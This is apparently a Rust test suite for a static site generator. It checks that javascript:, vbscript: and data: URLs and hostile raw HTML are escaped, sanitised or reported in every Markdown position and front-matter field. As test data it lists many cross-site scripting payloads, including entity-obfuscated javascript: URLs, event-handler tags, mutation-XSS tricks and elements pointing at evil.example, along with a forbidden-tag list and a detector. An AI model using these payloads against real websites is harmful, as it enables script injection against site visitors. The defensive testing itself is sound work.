//! URLs with code behind them, and raw HTML: what an author may not bring into a page.
//!
//! The output is searched as a browser reads it, and a test of its own holds that search against what it must find.

use crate::fixture::{files, page, plan, told, wrong};
use crate::html::{bare, body};
use crate::input::brief;

/// What a browser would take for a URL that runs code, in whatever form it stands in `html`.
fn running_url(html: &str) -> Option<String> {
    let mut seen = html.to_ascii_lowercase();
    let entities = [
        ("&#x3a;", ":"),
        ("&#58;", ":"),
        ("&#58", ":"),
        ("&#0000058", ":"),
        ("&colon;", ":"),
        ("&tab;", ""),
        ("&newline;", ""),
        ("&#x09;", ""),
        ("&#106;", "j"),
        ("&#x6a;", "j"),
        ("&#x63", "c"),
    ];
    for (entity, c) in entities {
        seen = seen.replace(entity, c);
    }
    let bare: String = seen.chars().filter(|c| !c.is_whitespace() && !c.is_control()).collect();
    let marks = ["=\"", "='", "=", "url(", "url('", "url(\""];
    let schemes = ["javascript:", "vbscript:", "data:"];
    schemes.iter().find_map(|scheme| {
        let found = bare.match_indices(scheme).find(|(at, _)| marks.iter().any(|mark| bare[..*at].ends_with(mark)))?;
        Some(bare[found.0.saturating_sub(20)..(found.0 + 30).min(bare.len())].to_owned())
    })
}

/// Every way to write three schemes.
fn running_urls() -> Vec<String> {
    let mut urls = Vec::new();
    for scheme in ["javascript", "vbscript", "data"] {
        let (first, rest) = scheme.split_at(4);
        urls.extend([
            format!("{scheme}:x"),
            format!("{}:x", scheme.to_uppercase()),
            format!("{}{}:x", first.to_uppercase(), rest),
            format!("{first}&#9;{rest}:x"),
            format!("{first}&Tab;{rest}:x"),
            format!("{first}&NewLine;{rest}:x"),
            format!("{first}&#10;{rest}:x"),
            format!("{scheme}&colon;x"),
            format!("{scheme}&#58;x"),
            format!("{scheme}&#x3A;x"),
            format!("{scheme}&#x0003a;x"),
            format!("&#1;{scheme}:x"),
            format!("&#32;{scheme}:x"),
            format!("&#{};{}:x", scheme.as_bytes()[0], &scheme[1..]),
            format!("\u{1}{scheme}:x"),
            format!("{first}\\\t{rest}:x"),
            format!("{scheme}\\:x"),
        ]);
    }
    urls
}

/// Every place where Markdown takes a URL.
fn places_of(url: &str, number: usize) -> String {
    [
        format!("[x]({url})"),
        format!("[x](<{url}>)"),
        format!("[x]({url} \"title\")"),
        format!("![x]({url})"),
        format!("![x](<{url}>)"),
        format!("[a{number}]\n\n[a{number}]: {url}"),
        format!("[x][b{number}] ![x][b{number}]\n\n[b{number}]: <{url}>"),
        format!("<{url}>"),
        format!("a[^{number}]\n\n[^{number}]: [x]({url})"),
        format!("[![x]({url})]({url})"),
        format!("| a |\n|---|\n| [x]({url}) |"),
        format!("# [x]({url})"),
    ]
    .join("\n\n")
}

#[test]
fn urls_that_run_code_are_published_in_no_mode_of_raw_html() {
    let site = |mode: &str, body: &str| {
        let front = format!("==> site.yaml\ntitle: T\nbase_url: https://x.org/\nmarkdown: {{raw_html: {mode}}}\n");
        front + &brief("", body)
    };
    // What is taken for a path to a file stops the build, so it is published nowhere.
    let (bodies, paths): (Vec<String>, Vec<String>) = running_urls()
        .iter()
        .enumerate()
        .map(|(number, url)| places_of(url, number))
        .partition(|body| plan(&site("sanitize", body)).is_sound());
    assert!(paths.len() <= 6, "{paths:#?}");
    for mode in ["escape", "sanitize", "allow"] {
        let html = page(&site(mode, &bodies.join("\n\n")), "briefs/a/index.html");
        assert_eq!(running_url(&html.replace("img-src 'self' data:;", "")), None, "{mode}");
    }
}

#[test]
fn the_search_for_running_urls_finds_them() {
    for html in [
        "<a href=\"JavaScript:x\">",
        "<a href='java&Tab;script&colon;x'>",
        "<img src=data:x>",
        "<a href=javas&#x63ript&#58x>",
        "<a href=\" vbscript&#58;x\">",
    ] {
        assert!(running_url(html).is_some(), "{html}");
    }
    assert_eq!(running_url("<a href=\"/x\">javascript:x</a>"), None);
}

#[test]
fn urls_that_run_code_are_told_of_where_they_stand() {
    for url in ["javascript:x", "VBScript:x", "data:text/html,x", "java&Tab;script:x", "javascript&colon;x"] {
        for body in ["[x](URL)", "![x](URL)", "[x][y]\n\n[y]: URL"] {
            let told = wrong(&brief("", &body.replace("URL", url)));
            assert_eq!(told, "unsafe-url content/briefs/a.md:5:1", "{url} in {body}");
        }
    }
}

#[test]
fn raw_html_cannot_run_code_unless_it_is_allowed() {
    let hostile = [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<iframe src=\"//evil.example/x\"></iframe>",
        "<object data=x></object><embed src=x>",
        "<form action=//evil.example><input name=a></form>",
        "<base href=//evil.example>",
        "<meta http-equiv=refresh content=0>",
        "<link rel=stylesheet href=//evil.example>",
        "<style>@import '//evil.example'</style>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"java&#9;script:alert(1)\">x</a>",
        "<a href=javascript&#58alert(1)>x</a>",
        "<a href=&#106;avascript:alert(1)>x</a>",
        "<a href=&#x6A;avascript:alert(1)>x</a>",
        "<a href=javas&#x63ript:alert(1)>x</a>",
        "<a href=java&Tab;script&colon;alert(1)>x</a>",
        "<a href='java&NewLine;script&#0000058alert(1)'>x</a>",
        "<a HREF = JAVASCRIPT&#X3A;alert(1)>x</a>",
        "<a href=' &#1;javascript:alert(1)'>x</a>",
        "<img src=\"data:image/svg+xml,x\">",
        "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<p style=\"background:url(javascript:x)\">x</p>",
        "<details ontoggle=alert(1) open>x</details>",
        "<input type=image src=x onerror=alert(1)>",
        "<video><source onerror=alert(1)></video>",
        "<template><script>alert(1)</script></template>",
    ];
    let forbidden = [
        "<script",
        "onerror=",
        "onload=",
        "ontoggle=",
        "<iframe",
        "<object",
        "<embed",
        "<form",
        "<base",
        "http-equiv=refresh",
        "<svg",
        "<math",
        "<style",
        "evil.example\"",
        "<template",
        "<video",
        "<source",
        "style=",
    ];
    for html in hostile {
        for mode in ["escape", "sanitize"] {
            for body in [
                html.to_owned(),
                format!("Inline {html} text."),
                format!("> {html}\n\n- {html}"),
                format!("<div>\n\n{html}"),
            ] {
                let site = "==> site.yaml\ntitle: T\nbase_url: https://x.org/\nmarkdown: {raw_html: MODE}\n"
                    .replace("MODE", mode);
                // The file is there, so that nothing but its markup can keep an element from the page.
                let plan = plan(&bare(&(site + &brief("", &body) + "==> content/briefs/x\nx\n")));
                let page = String::from_utf8(files(&plan)["briefs/a/index.html"].clone()).expect("UTF-8");
                let prose = page.to_ascii_lowercase();
                let elements: String = tags(&prose);
                for word in forbidden {
                    assert!(!elements.contains(word), "{mode}: {word} of {body} in {elements}");
                }
                assert_eq!(running_url(&elements), None, "{mode}: {body}");
                let told = ["external-content", "html-removed", "unsafe-url"];
                let is_told = plan.problems().iter().any(|problem| told.contains(&problem.code.as_str()));
                assert!(mode == "escape" || is_told, "nothing is told of {body}");
            }
        }
    }
}

/// The tags of a page, without the text between them. A value that holds an escaped tag is text, whatever it says.
fn tags(html: &str) -> String {
    let values = html.split('"').enumerate().filter(|(at, value)| at % 2 == 0 || !value.contains("&lt;"));
    let html = values.map(|(_, value)| value).collect::<Vec<_>>().join("\"");
    html.split('<').skip(1).map(|tag| format!("<{}>", tag.split('>').next().unwrap_or_default())).collect()
}

#[test]
fn the_three_modes_of_raw_html() {
    let written =
        "A <mark>word</mark> and <blink onclick=\"x\">one</blink>.\n\n<section id=\"own\">\n\nText.\n\n</section>\n";
    let modes = [
        (
            "escape",
            "<p>A &lt;mark&gt;word&lt;/mark&gt; and &lt;blink onclick=&quot;x&quot;&gt;one&lt;/blink&gt;.</p>\n\
             &lt;section id=&quot;own&quot;&gt;\n<p>Text.</p>\n&lt;/section&gt;\n",
            "",
        ),
        (
            "sanitize",
            "<p>A <mark>word</mark> and one.</p>\n<section id=\"own\">\n<p>Text.</p>\n</section>\n",
            "html-removed content/briefs/a.md:5:25",
        ),
        (
            "allow",
            "<p>A <mark>word</mark> and <blink onclick=\"x\">one</blink>.</p>\n<section id=\"own\">\n<p>Text.</p>\n</section>\n",
            "external-content content/briefs/a.md:5:25",
        ),
    ];
    for (mode, html, told) in modes {
        let site = format!(
            "==> site.yaml\ntitle: T\nbase_url: https://x.org/\nmarkdown: {{raw_html: {mode}}}\n{}",
            brief("", written)
        );
        assert_eq!(body(&site, "briefs/a/index.html"), html.trim_end(), "{mode}");
        assert_eq!(wrong(&site), told, "{mode}");
    }
}

#[test]
fn links_of_raw_html_are_links_like_others() {
    let site = brief("", "<p><a href=\"/briefs/a/\">x</a> <a href='a.md#bp-cite'>y</a></p>");
    let html = body(&site, "briefs/a/index.html");
    assert!(html.contains("<a href=\"/repo/briefs/a/\">x</a> <a href=\"/repo/briefs/a/#bp-cite\">y</a>"), "{html}");
    assert_eq!(wrong(&brief("", "<p><a href=\"b.md\">x</a></p>")), "dead-link content/briefs/a.md:5:4");
}

#[test]
fn urls_of_front_matter_are_web_addresses_or_files() {
    for url in [
        "javascript:alert(1)",
        "JAVASCRIPT:alert(1)",
        "java\\tscript:x",
        "data:text/html,x",
        "vbscript:x",
        " javascript:x",
    ] {
        for field in [
            format!("sources: [{{title: S, url: \"{url}\"}}]"),
            format!("sources: [{{title: S, url: 'https://x.org/', archived: \"{url}\"}}]"),
            format!("image: {{src: \"{url}\", alt: x}}"),
            format!("pdf: \"{url}\""),
            format!("attachments: [{{file: \"{url}\"}}]"),
            format!("disclosure: \"[x](<{url}>)\""),
            format!("key_points: [\"[x](<{url}>)\"]"),
        ] {
            let plan = plan(&brief(&format!("{field}\n"), ""));
            assert!(!plan.problems().is_empty(), "nothing is told of {field}");
            if plan.is_sound() {
                for (path, bytes) in
                    files(&plan).iter().filter(|(path, _)| path.ends_with("html") || path.ends_with("xml"))
                {
                    let text = String::from_utf8_lossy(bytes).replace("img-src 'self' data:;", "");
                    assert_eq!(running_url(&text), None, "{path}: {field}");
                }
            }
        }
        for field in
            ["publisher: {url: URL}", "menu: [{title: x, url: URL}]", "footer: {links: [{title: x, url: URL}]}"]
        {
            let field = field.replace("URL", &format!("\"{url}\""));
            let told = told(&format!("==> site.yaml\ntitle: T\nbase_url: https://x.org/\n{field}\n"));
            assert!(told.starts_with("invalid-value site.yaml:3:"), "{field}: {told}");
        }
        let country = format!("==> content/countries/PK.md\n---\nlinks: [{{title: x, url: \"{url}\"}}]\n---\n");
        assert_eq!(wrong(&country), "invalid-value content/countries/PK.md:2:25");
        let author = format!("==> content/authors/jo.md\n---\nname: Jo\nlinks: [{{title: x, url: \"{url}\"}}]\n---\n");
        assert!(!wrong(&author).is_empty(), "nothing is told of an author's {url}");
    }
}
